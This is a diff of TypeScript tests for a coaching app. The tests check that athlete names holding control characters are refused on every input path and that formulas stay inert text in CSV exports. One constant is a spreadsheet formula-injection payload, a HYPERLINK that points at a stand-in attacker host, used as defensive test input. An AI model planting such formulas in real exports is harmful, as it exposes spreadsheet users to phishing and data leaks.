@@ -15,13 +15,13 @@ import { Client, json, signedUpCoach } from '../helpers/worker-client';
 import type { PracticeRoom } from '../../worker/room/practice-room';
 import { getRoom } from '../../worker/room/room';
 import { archived } from '../helpers/room-d1';
+import { practicesOf, rosterOf } from '../helpers/account';
 
 // Issue 25: names with control characters on every path in (API, import, restore), and a restore held to
 // the rules of the API; the formula a name can carry stays text in the CSV exports, the live board's included.
 
 const FORMULA = '=HYPERLINK("http://evil.example/?x","click")';
 const refused = (label: string) => errorBody(`${label} cannot contain control characters`);
-const roster = (client: Client) => client.api.athletes.$get().then((r) => json<Athlete[]>(r));
 
 /** A coach with a practice of one pool of three typed names, the first two having fenced. */
 async function coachWithPool() {
@@ -38,8 +38,8 @@ async function coachWithPool() {
 
 /** Nothing of the file reached the account: no athlete, no practice. */
 async function expectNothingRestored(client: Client) {
-  expect(await roster(client)).toEqual([]);
-  expect(await json(await client.api.practices.$get())).toEqual([]);
+  expect(await rosterOf(client)).toEqual([]);
+  expect(await practicesOf(client)).toEqual([]);
 }
 
 describe('names with control characters are refused on every path (issue 25)', () => {
@@ -50,14 +50,14 @@ describe('names with control characters are refused on every path (issue 25)', (
       expect(res.status).toBe(400);
       expect(await json(res)).toEqual(refused(label));
     }
-    expect(await roster(client)).toEqual([]);
+    expect(await rosterOf(client)).toEqual([]);
 
     const created = await json<Athlete>(await client.api.athletes.$post({ json: { name: `${FORMULA}\nX`, club: 'Two\r\nlines' } }));
     expect([created.name, created.club]).toEqual([`${FORMULA} X`, 'Two lines']);
     const renamed = await json<Athlete>(await client.api.athletes[':id'].$patch({ param: { id: created.id }, json: { name: 'Ann\tLee' } }));
     expect(renamed.name).toBe('Ann Lee');
     expect((await client.api.athletes[':id'].$patch({ param: { id: created.id }, json: { name: 'Ann\u2028Lee' } })).status).toBe(400);
-    expect((await roster(client)).map((a) => a.name)).toEqual(['Ann Lee']);
+    expect((await rosterOf(client)).map((a) => a.name)).toEqual(['Ann Lee']);
   });
 
   it('the pool and player API refuse them, and typed names keep one line', async () => {
@@ -89,7 +89,7 @@ describe('names with control characters are refused on every path (issue 25)', (
       [4, 'error', 'Club cannot contain control characters'],
       [5, 'new', null],
     ]);
-    expect((await roster(client)).map((a) => a.name)).toEqual(['Ann Lee', 'Dora Kiss']);
+    expect((await rosterOf(client)).map((a) => a.name)).toEqual(['Ann Lee', 'Dora Kiss']);
   });
 
   it('the restore refuses them with a code and writes nothing; a name over two lines is restored on one', async () => {
@@ -106,7 +106,7 @@ describe('names with control characters are refused on every path (issue 25)', (
     const twoLines = structuredClone(backup);
     twoLines.athletes.push({ id: 'x1', name: `${FORMULA}\nX`, club: null, ranking: null, created_at: 1, notes: [] });
     expect((await target.client.api.account.restore.$post({ json: twoLines })).status).toBe(201);
-    expect((await roster(target.client)).map((a) => a.name)).toEqual([`${FORMULA} X`]);
+    expect((await rosterOf(target.client)).map((a) => a.name)).toEqual([`${FORMULA} X`]);
   });
 });
 
@@ -235,7 +235,7 @@ describe('the CSV exports keep a formula as text (issue 25)', () => {
     expect(names).toContain("'@SUM(1+1) Y");
     expect(names.filter((n) => /^[=+\-@\t\r]/.test(n!))).toEqual([]);
 
-    const athletes = await roster(client);
+    const athletes = await rosterOf(client);
     expect(readCsv(rosterCsv([...athletes, { name: `-2+3\nZ`, club: '+33 1', ranking: null }]))[1]).toEqual(["'-2+3\nZ", "'+33 1", '']);
   });
 });
